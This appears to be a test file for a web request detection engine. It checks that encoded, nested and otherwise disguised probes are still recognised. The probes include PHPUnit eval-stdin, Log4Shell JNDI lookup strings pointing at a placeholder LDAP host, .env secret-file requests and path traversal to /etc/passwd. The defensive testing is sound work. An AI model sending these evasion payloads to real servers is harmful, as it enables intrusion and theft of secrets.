import { expect, test } from "vitest";
import { catalogue } from "../../../src/knowledge/checks/catalogue/index.ts";
import { CheckMatcher } from "../../../src/knowledge/checks/check-matcher.ts";
import { Batch } from "../../../src/observations/batch.ts";
import { addRawRequest, addRequest } from "./request-row.ts";

const matcher = new CheckMatcher(catalogue);
const latin1 = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));

test.each([
  ["percent-encoded letters", "/%70hpunit/src/Util/PHP/eval-stdi%6e.php"],
  ["double encoding", "/phpunit%252fsrc/Util/PHP/eval%252dstdin.php"],
  ["nested encoding", "/phpunit/src/Util/PHP/eval-stdin%%32%65php"],
  ["path parameters", "/phpunit;a=b/src;x/Util/PHP/eval-stdin.php;jsessionid=1"],
  ["empty segments", "//phpunit///src//Util/PHP//eval-stdin.php"],
  ["dot segments", "/./phpunit/./src/Util/./PHP/eval-stdin.php"],
  ["climbing out of a directory", "/images/../phpunit/x/../src/Util/PHP/eval-stdin.php"],
  ["backslashes", "/phpunit\\src\\Util\\PHP\\eval-stdin.php"],
  ["encoded backslashes", "/phpunit%5csrc%5cUtil/PHP/eval-stdin.php"],
  ["letter case", "/PHPUnit/SRC/uTIL/php/EVAL-STDIN.PHP"],
  ["unknown first directories", "/blog/2020/wp/lib/phpunit/src/Util/PHP/eval-stdin.php"],
  ["a trailing dot", "/phpunit/src/Util/PHP/eval-stdin.php."],
  ["a trailing slash", "/phpunit/src/Util/PHP/eval-stdin.php/"],
  ["a NUL and an innocent ending", "/phpunit/src/Util/PHP/eval-stdin.php%00.css"],
  ["overlong UTF-8, encoded", "/phpunit%c0%afsrc/Util/PHP/eval-stdin%c0%aephp"],
  ["overlong UTF-8, raw", "/phpunit\xc0\xafsrc/Util/PHP/eval-stdin.php"],
  ["three-byte overlong UTF-8", "/phpunit%e0%80%afsrc/Util/PHP/eval-stdin.php"],
  ["IIS's own escapes", "/phpunit%u002fsrc/Util/PHP/eval-stdin%u002ephp"],
  ["an absolute URI", "http://example.org/phpunit/src/Util/PHP/eval-stdin.php"],
  ["a query that pads", `/phpunit/src/Util/PHP/eval-stdin.php?${"a=1&".repeat(200)}`],
  ["hundreds of rare tokens before it", `/${"phpmyadmin/".repeat(60)}phpunit/src/Util/PHP/eval-stdin.php`],
])("a check is seen through %s", (_name, target) => {
  const batch = new Batch(4);
  const row = addRawRequest(batch, "GET", latin1(target), latin1(""));
  expect(matcher.checksOf(batch, row).map(({ check }) => check.id)).toContain("CVE-2017-9841");
});

test.each([
  ["in the path", "GET /%24%7Bjndi:ldap://x/a%7D"],
  ["in the query", "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"],
  ["nested with lower", "GET /?q=$%7B$%7Blower:j%7Dndi:ldap://x%7D"],
  ["nested with empty look-ups", "GET /?q=$%7B$%7B::-j%7D$%7B::-n%7Ddi:dns://x%7D"],
  ["in the user agent", `GET / | agent=${"$"}{jndi:ldap://x/a}`],
  ["in the referer", `GET / | referer=http://x/${"$"}{${"$"}{env:X:-j}ndi:rmi://x}`],
])("a JNDI look-up is seen %s", (_name, example) => {
  const batch = new Batch(4);
  const matches = matcher.checksOf(batch, addRequest(batch, example));
  expect(matches.map(({ check }) => [check.id, check.intent])).toContainEqual(["CVE-2021-44228", "exploit"]);
});

const idsOf = (example: string) => {
  const batch = new Batch(4);
  return matcher.checksOf(batch, addRequest(batch, example)).map(({ check }) => check.id);
};

test.each([
  ["percent-encoded letters", "GET /%2e%65nv"],
  ["double encoding", "GET /%252e%2565nv"],
  ["a path parameter", "GET /x;a=b/.env"],
  ["an empty segment", "GET //.env"],
  ["a dot segment", "GET /./.env"],
  ["a backslash", "GET /x\\.env"],
  ["letter case", "GET /wP-lOgIn.PhP"],
  ["another method", "POST /.env | content=X-HTTP-Method-Override: GET\n"],
  ["another method in the query", "POST /.env?_method=GET"],
  ["a tab", "GET /.env%09x/../.env"],
  ["overlong UTF-8", "GET /%c0%aeenv"],
  ["a NUL", "GET /.env%00.png"],
])("%s is evidence beside the check", (_name, example) => {
  const ids = idsOf(example);
  expect(ids).toContain("generic-encoding-evasion");
  expect(ids.length).toBeGreaterThan(1);
});

test.each([
  ["the check as it is written", "GET /.env"],
  ["a check that is made of it", "GET /cgi-bin/.%2e/.%2e/etc/passwd"],
  ["a name of a product", "GET /phpMyAdmin/index.php"],
  ["names in camel case", "GET /Telerik.Web.UI.WebResource.axd?type=rau"],
  ["a page of the site", "GET /caf%C3%A9//menu;lang=de"],
])("%s is no disguise", (_name, example) => {
  expect(idsOf(example)).not.toContain("generic-encoding-evasion");
});

test("a check of one method is seen where another is sent, and overridden in the query", () => {
  const plain = idsOf("POST /api/jsonws/invoke");
  expect(idsOf("GET /api/jsonws/invoke?_method=POST")).toEqual(expect.arrayContaining(plain));
});
